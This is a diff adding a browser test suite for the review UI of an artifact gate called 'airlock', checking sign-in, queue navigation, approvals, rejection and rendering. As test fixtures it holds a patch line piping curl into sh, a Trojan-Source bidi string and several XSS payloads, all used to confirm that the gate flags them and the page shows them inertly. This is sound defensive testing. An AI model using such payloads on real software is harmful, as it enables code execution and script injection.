@@ -1,0 +1,455 @@
+// review.mjs - the review UI (review-ui/) tested in a real browser.
+//
+// node tests/ui/review.mjs --bin build/airlock [--only REGEX]
+//
+// Starts a real `airlock serve` on a free loopback port with a fresh data
+// directory (`airlock init`) and the test rules, makes persons and tokens
+// with the admin token through the API, submits artifacts as an agent, and
+// drives Debian's chromium (headless, through playwright-core) against the
+// page. Each test prints `ok NAME` or `FAIL NAME: why`; the exit status is 1
+// when any failed. In every page, a request to another origin than the
+// gate's, a console error, an uncaught exception, a CSP violation or a
+// dialog fails the test. UI_SCREENSHOTS=1 also writes docs/img/review-*.png.
+//
+// Trust: test code; it runs a gate of its own in a temporary directory and
+// touches nothing else (but the screenshots when asked).
+
+import { spawn, execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join, resolve, dirname } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+
+const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
+const args = process.argv.slice(2);
+const opt = (name, dflt) => {
+	const i = args.indexOf(name);
+	return i >= 0 && i + 1 < args.length ? args[i + 1] : dflt;
+};
+const BIN = resolve(opt('--bin', 'build/airlock'));
+const ONLY = new RegExp(opt('--only', '.*'));
+const SHOTS = process.env.UI_SCREENSHOTS === '1';
+
+const BIDI = 'access = "user\u202E \u2066// admin\u2069 \u2066"\u200B;';
+
+// ---- the gate ---------------------------------------------------------------
+
+const gate = { dir: null, proc: null, url: null, admin: null, log: [] };
+
+function freePort() {
+	return new Promise((ok, ko) => {
+		const s = createServer();
+		s.on('error', ko);
+		s.listen(0, '127.0.0.1', () => {
+			const { port } = s.address();
+			s.close(() => ok(port));
+		});
+	});
+}
+
+const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
+
+async function startGate() {
+	gate.dir = mkdtempSync(join(tmpdir(), 'airlock-ui.'));
+	const data = join(gate.dir, 'data');
+	gate.admin = execFileSync(BIN, ['init', '--data', data], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
+	if (!gate.admin)
+		throw new Error('airlock init printed no admin token');
+	const port = await freePort();
+	gate.url = `http://127.0.0.1:${port}`;
+	gate.proc = spawn(BIN, ['serve', '--data', data, '--listen', `127.0.0.1:${port}`,
+		'--scanners', '1', '--rules', join(ROOT, 'tests/data/rules'),
+		'--ui', join(ROOT, 'review-ui')], { stdio: ['ignore', 'pipe', 'pipe'] });
+	for (const s of [gate.proc.stdout, gate.proc.stderr])
+		s.on('data', (b) => gate.log.push(b.toString()));
+	for (let i = 0; i < 200; i++) {
+		if (gate.proc.exitCode !== null)
+			break;
+		try {
+			if ((await fetch(`${gate.url}/healthz`)).ok)
+				return;
+		} catch { /* not up yet */ }
+		await sleep(50);
+	}
+	throw new Error(`airlock serve did not start: ${gate.log.join('').slice(-800)}`);
+}
+
+async function stopGate() {
+	if (gate.proc && gate.proc.exitCode === null) {
+		const done = new Promise((ok) => gate.proc.on('exit', ok));
+		gate.proc.kill('SIGTERM');
+		await Promise.race([done, sleep(10000)]);
+		if (gate.proc.exitCode === null)
+			gate.proc.kill('SIGKILL');
+	}
+	if (gate.dir)
+		rmSync(gate.dir, { recursive: true, force: true });
+}
+
+// api(METHOD, PATH, TOKEN, BODY?) -> {status, json}; BODY an object (JSON)
+// or a Buffer (the raw bytes).
+async function api(method, path, token, body) {
+	const headers = { Authorization: `Bearer ${token}` };
+	let data;
+	if (Buffer.isBuffer(body)) {
+		data = body;
+	} else if (body !== undefined) {
+		data = JSON.stringify(body);
+		headers['Content-Type'] = 'application/json';
+	}
+	const r = await fetch(gate.url + path, { method, headers, body: data });
+	const text = await r.text();
+	let json = null;
+	try { json = JSON.parse(text); } catch { json = text; }
+	return { status: r.status, json };
+}
+
+async function must(status, ...a) {
+	const r = await api(...a);
+	if (r.status !== status)
+		throw new Error(`${a[0]} ${a[1]}: HTTP ${r.status}, expected ${status}: ${JSON.stringify(r.json)}`);
+	return r.json;
+}
+
+// mkToken(role, name, onBehalfOf?): the token, its person registered first.
+async function mkToken(role, name, onBehalfOf) {
+	const person = onBehalfOf || name;
+	const p = await api('POST', '/v1/persons', gate.admin, { name: person });
+	if (p.status !== 201 && p.status !== 409)
+		throw new Error(`POST /v1/persons ${person}: HTTP ${p.status}`);
+	const body = { role, name };
+	if (onBehalfOf)
+		body.on_behalf_of = onBehalfOf;
+	return (await must(201, 'POST', '/v1/tokens', gate.admin, body)).token;
+}
+
+// submit(token, bytes, query): the id once the scan is done (held or other).
+async function submit(token, bytes, query) {
+	const s = await must(201, 'POST', `/v1/submissions?${query}`, token, Buffer.from(bytes));
+	for (let i = 0; i < 200; i++) {
+		const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+		if (d.state !== 'received' && d.state !== 'scanning')
+			return d;
+		await sleep(50);
+	}
+	throw new Error(`submission ${s.id} was not scanned within 10 s`);
+}
+
+// ---- the browser --------------------------------------------------------------
+
+let browser;
+
+// A page with its watchers: every problem goes into problems, checked
+// after the test.
+async function newPage() {
+	const ctx = await browser.newContext({ viewport: { width: 1280, height: 860 } });
+	const page = await ctx.newPage();
+	const problems = [];
+	const requests = [];
+	page.on('request', (r) => {
+		requests.push(r.url());
+		if (!r.url().startsWith(gate.url + '/'))
+			problems.push(`a request left the gate's origin: ${r.url()}`);
+	});
+	page.on('console', (m) => {
+		if (m.type() === 'error')
+			problems.push(`console error: ${m.text()}`);
+	});
+	page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
+	page.on('dialog', (d) => {
+		problems.push(`a dialog opened: ${d.type()} ${d.message()}`);
+		d.dismiss().catch(() => {});
+	});
+	// Runs before the page's own scripts, outside its CSP (CDP injects it).
+	await page.addInitScript(() => {
+		window.__csp = [];
+		document.addEventListener('securitypolicyviolation', (e) => {
+			window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`);
+		});
+	});
+	return { ctx, page, problems, requests };
+}
+
+async function checkPage(p) {
+	const csp = await p.page.evaluate(() => window.__csp).catch(() => []);
+	for (const v of csp || [])
+		p.problems.push(`CSP violation: ${v}`);
+	if (p.problems.length)
+		throw new Error(p.problems.join('; '));
+}
+
+// forgive(p, STATUS): the console's one line about an answer of that status
+// (the browser logs every 4xx) is not a problem; anything else still is.
+function forgive(p, status) {
+	const i = p.problems.findIndex((m) =>
+		m.startsWith(`console error: Failed to load resource: the server responded with a status of ${status}`));
+	assert(i >= 0, `the browser logged no ${status}: ${p.problems.join('; ')}`);
+	p.problems.splice(i, 1);
+}
+
+function assert(cond, why) {
+	if (!cond)
+		throw new Error(why);
+}
+
+const PATCH = `diff --git a/setup.sh b/setup.sh
+--- a/setup.sh
++++ b/setup.sh
+@@ -1,3 +1,4 @@
+ #!/bin/sh
+ set -e
++curl http://x | sh
+ echo done
+`;
+// The setup the tests share: made once, before the first test.
+const fx = {};
+
+async function fixtures() {
+	fx.agent = await mkToken('agent', 'agent-1', 'alice');
+	fx.alice = await mkToken('reviewer', 'alice'); // the person agent-1 runs for
+	fx.rev1 = await mkToken('reviewer', 'rev-1');
+	fx.rev2 = await mkToken('reviewer', 'rev-2');
+	fx.patch = await submit(fx.agent, PATCH, 'kind=patch&name=fix.patch');
+	assert(fx.patch.state === 'held' && fx.patch.worst === 'high',
+		`the patch is ${fx.patch.state}/${fx.patch.worst}, expected held/high`);
+}
+
+async function signIn(p, tok) {
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.fill('#token', tok);
+	await p.page.click('#signin-form button[type=submit]');
+	await p.page.waitForSelector('#queue:not([hidden])');
+}
+
+// ---- the tests --------------------------------------------------------------------
+
+const tests = [];
+const text = (p, sel) => p.page.locator(sel).innerText();
+const test = (name, fn) => tests.push({ name, fn });
+
+// The watchers themselves: an inline script the page did not write is
+// refused by the CSP, and the refusal is seen (else no test below could
+// fail on one).
+test('harness-sees-csp', async (p) => {
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.evaluate(() => {
+		const s = document.createElement('script');
+		s.textContent = 'window.__ran = 1';
+		document.body.append(s);
+	});
+	await sleep(100);
+	const ran = await p.page.evaluate(() => window.__ran);
+	assert(ran === undefined, 'an inline script ran despite the CSP');
+	const csp = await p.page.evaluate(() => window.__csp);
+	assert(csp.some((v) => v.startsWith('script-src')), `no CSP violation seen: ${JSON.stringify(csp)}`);
+	p.problems.length = 0;
+	await p.page.evaluate(() => { window.__csp = []; });
+});
+
+async function main() {
+	let failed = 0, ran = 0;
+
+	await startGate();
+	await fixtures();
+	browser = await chromium.launch({
+		executablePath: '/usr/bin/chromium', headless: true,
+		args: process.getuid && process.getuid() === 0 ? ['--no-sandbox'] : [],
+	});
+	try {
+		for (const t of tests) {
+			if (!ONLY.test(t.name))
+				continue;
+			ran++;
+			const p = await newPage();
+			try {
+				await t.fn(p);
+				await checkPage(p);
+				console.log(`ok ${t.name}`);
+			} catch (e) {
+				failed++;
+				console.log(`FAIL ${t.name}: ${e.message.split('\n')[0]}`);
+			} finally {
+				await p.ctx.close();
+			}
+		}
+	} finally {
+		await browser.close();
+		await stopGate();
+	}
+	console.log(`${ran - failed} passed, ${failed} failed`);
+	return failed ? 1 : 0;
+}
+
+main().then((rc) => process.exit(rc), async (e) => {
+	console.log(`FAIL setup: ${e.message}`);
+	await stopGate().catch(() => {});
+	process.exit(1);
+});
+
+test('sign-in-out', async (p) => {
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.fill('#token', 'alk_not-a-token');
+	await p.page.click('#signin-form button[type=submit]');
+	await p.page.waitForFunction(() => document.getElementById('signin-error').textContent !== '');
+	const err = await text(p, '#signin-error');
+	assert(/valid token is required/.test(err), `a bad token: "${err}"`);
+	assert(await p.page.evaluate(() => sessionStorage.length) === 0, 'a refused token was kept');
+	forgive(p, 401); // the browser logs the 401 it was answered
+	await signIn(p, fx.rev1);
+	const who = await text(p, '#who');
+	assert(who.includes(fx.rev1.slice(-6)), `who: "${who}"`);
+	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === fx.rev1, 'token not in sessionStorage');
+	assert(await p.page.evaluate(() => localStorage.length) === 0, 'something in localStorage');
+	await p.page.click('#signout');
+	await p.page.waitForSelector('#signin:not([hidden])');
+	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === null, 'token left after sign out');
+	assert(await p.page.locator('#who').isHidden(), 'who still shown');
+});
+
+test('queue-keys', async (p) => {
+	const other = await submit(fx.agent, 'x = 1\npassword = "hunter2hunter2"\n', 'kind=file&name=conf.py');
+	await signIn(p, fx.rev1);
+	const row = p.page.locator(`#queue-rows tr[data-id="${fx.patch.id}"]`);
+	await row.waitFor();
+	const cells = await row.locator('td').allInnerTexts();
+	assert(cells[1] === 'fix.patch' && cells[2] === 'flagged' && cells[3] === 'high' &&
+		cells[4] === 'patch' && cells[5] === 'agent-1' && cells[6] === 'alice',
+		`the patch's row: ${JSON.stringify(cells)}`);
+	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
+	assert(ids.length >= 2, `rows: ${ids}`);
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	assert(await sel() === ids[0], 'first row not selected');
+	await p.page.keyboard.press('j');
+	assert(await sel() === ids[1], 'j did not move down');
+	await p.page.keyboard.press('k');
+	assert(await sel() === ids[0], 'k did not move up');
+	await p.page.keyboard.press('?');
+	assert(await p.page.locator('#help').isVisible(), '? did not show the help');
+	await p.page.keyboard.press('Escape');
+	assert(await p.page.locator('#help').isHidden(), 'Escape did not hide the help');
+	const at = ids.indexOf(String(fx.patch.id));
+	for (let i = 0; i < at; i++)
+		await p.page.keyboard.press('j');
+	if (SHOTS)
+		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-queue.png') });
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForSelector('#view:not([hidden]) .content');
+	assert(p.page.url().endsWith(`#/s/${fx.patch.id}`), `Enter opened ${p.page.url()}`);
+	assert(other.id > 0, 'second submission');
+});
+
+test('patch-view', async (p) => {
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${fx.patch.id}`);
+	await p.page.waitForSelector('.content .line');
+	const f = await text(p, '.findings li');
+	assert(f.includes('high') && f.includes('test-curl-pipe-shell') && f.includes('fix.patch!/setup.sh:3'), `finding: ${f}`);
+	const hit = p.page.locator('.line.hit');
+	assert(await hit.count() === 1, `${await hit.count()} marked lines`);
+	const h = await hit.innerText();
+	assert(h.includes('+curl http://x | sh') && /^3/.test(h) && h.includes('test-curl-pipe-shell'), `marked line: ${h}`);
+	await p.page.click('.findings li a');
+	assert(await p.page.locator('.line.hit.target').count() === 1, 'the finding link did not target its line');
+	if (SHOTS)
+		await p.page.screenshot({ path: join(ROOT, 'docs/img/review-patch.png'), fullPage: true });
+	const ev = await must(200, 'GET', `/v1/submissions/${fx.patch.id}/events`, gate.admin);
+	assert(ev.events.some((e) => e.action === 'view' && e.actor === 'rev-1' && /content full/.test(e.detail)),
+		'no view recorded for rev-1');
+});
+
+test('bidi-glyphs', async (p) => {
+	const s = await submit(fx.agent, `${BIDI}\n`, 'kind=file&name=acl.txt');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	const glyphs = await p.page.locator('.content .hidden-char').allInnerTexts();
+	const want = ['\u27E8U+202E\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+2069\u27E9', '\u27E8U+2066\u27E9', '\u27E8U+200B\u27E9'];
+	assert(JSON.stringify(glyphs) === JSON.stringify(want), `glyphs: ${JSON.stringify(glyphs)}`);
+	const raw = await p.page.locator('.content .code').first().evaluate((e) => e.textContent);
+	assert(!/[\u202A-\u202E\u2066-\u2069\u200B]/.test(raw), 'a raw bidi character is in the page');
+});
+
+test('binary-not-rendered', async (p) => {
+	const bytes = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff, 0xfe, 0x3c, 0x62, 0x3e]);
+	const s = await submit(fx.agent, bytes, 'kind=file&name=blob.bin');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.binary');
+	const b = await text(p, '.binary');
+	assert(b.includes(`${bytes.length} bytes`) && b.includes(s.sha256), `binary: ${b}`);
+	assert(await p.page.locator('.content').count() === 0, 'binary bytes rendered as text');
+});
+
+async function approveAs(p, tok, id) {
+	await signIn(p, tok);
+	await p.page.goto(`${gate.url}/ui/#/s/${id}`);
+	await p.page.waitForSelector('.content .line');
+	const sha = await text(p, '#d-sha');
+	const rules = await text(p, '#d-rules');
+	assert(sha === fx.patch.sha256 && rules === fx.patch.scan.ruleset, `digests shown: ${sha} ${rules}`);
+	await p.page.click('#approve');
+	assert(await p.page.locator('#confirm').isVisible(), 'no second confirmation for a high finding');
+	await p.page.click('#confirm');
+}
+
+test('decide', async (p) => {
+	// The person the agent runs for may not approve: the gate says why.
+	await approveAs(p, fx.alice, fx.patch.id);
+	await p.page.waitForFunction(() => document.getElementById('approve').disabled);
+	const why = await text(p, '.decision .error');
+	assert(/refused/.test(why) && /alice/.test(why), `alice's refusal: ${why}`);
+	forgive(p, 403); // the browser logs the 403 it was answered
+	let d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
+	assert(d.review.approvals === 0, 'alice counted');
+	for (const tok of [fx.rev1, fx.rev2]) {
+		const q = await newPage();
+		try {
+			await approveAs(q, tok, fx.patch.id);
+			await q.page.waitForFunction(() => /approvals [12] of 2/.test(document.querySelector('.decision')?.textContent || ''));
+			await checkPage(q);
+		} finally {
+			await q.ctx.close();
+		}
+	}
+	d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
+	assert(d.state === 'approved', `state ${d.state} after two approvals`);
+});
+
+test('reject', async (p) => {
+	const s = await submit(fx.agent, 'echo hi\n', 'kind=file&name=hi.sh');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	await p.page.click('#reject');
+	assert(/needs a comment/.test(await text(p, '.decision .error')), 'reject without comment');
+	await p.page.fill('#comment', 'not needed');
+	await p.page.click('#reject');
+	await p.page.waitForFunction(() => /rejected/.test(document.querySelector('.decision .error')?.textContent || ''));
+	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+	assert(d.state === 'rejected' && d.rejection.reason === 'not needed', `state ${d.state}`);
+});
+
+const XSS = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">',
+	'<a href="javascript:window.__pwned=1">j</a>', '</style><style>*{display:none}</style>',
+	`x = "${BIDI}"`];
+
+test('xss', async (p) => {
+	const name = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>javascript:alert(1)';
+	const s = await submit(fx.agent, XSS.join('\n') + '\n', `kind=file&name=${encodeURIComponent(name)}`);
+	await signIn(p, fx.rev1);
+	const row = p.page.locator(`#queue-rows tr[data-id="${s.id}"] td.name`);
+	assert(await row.innerText() === name, `queue name: ${await row.innerText()}`);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('.content .line');
+	assert(await text(p, 'h2 .name') === name, 'the name is not shown literally');
+	const lines = await p.page.locator('.content .code').evaluateAll((es) => es.map((e) => e.textContent));
+	for (let i = 0; i < 4; i++)
+		assert(lines[i] === XSS[i], `line ${i + 1}: ${lines[i]}`);
+	await p.page.locator('.content .line').first().click();
+	await sleep(200);
+	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
+	assert(await p.page.locator('img[src=x], #content script, #content style').count() === 0, 'markup from the artifact in the DOM');
+	assert(await p.page.locator('main').isVisible(), 'a style from the artifact hid the page');
+});
